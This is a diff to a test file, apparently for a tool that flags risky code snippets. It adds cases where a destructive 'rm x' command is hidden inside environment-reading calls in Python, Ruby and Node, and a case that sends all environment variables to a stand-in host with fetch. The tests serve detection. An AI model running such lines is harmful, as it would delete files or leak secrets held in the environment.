@@ -335,6 +335,14 @@ describe('code that goes to another folder', () => {
 
 describe('code that prints the environment', () => {
   test.each([
+    python('import os; os.environ.copy(os.system("rm x"))'),
+    ruby('ENV.to_h { |k, v| system("rm x") }'),
+    node('process.env.entries(require("child_process").execSync("rm x"))'),
+  ])('runs what stands in its calls: %s', (text) => {
+    expect(runs(text)).toContain('rm x');
+  });
+
+  test.each([
     python('import os; print(os.environ)'),
     python('import json, os; print(json.dumps(dict(os.environ), indent=2))'),
     node('console.log(process.env)'),
@@ -351,6 +359,7 @@ describe('code that prints the environment', () => {
     ),
     node('fetch("https://a.example/?" + JSON.stringify(process.env))'),
     node('fetch(`https://a.example/?${new URLSearchParams(process.env)}`)'),
+    node('fetch("https://a.example/" + Object.entries(process.env))'),
     ruby('p ENV.to_h'),
     ruby('puts ENV.inspect'),
   ])('does what printenv does: %s', (text) => {
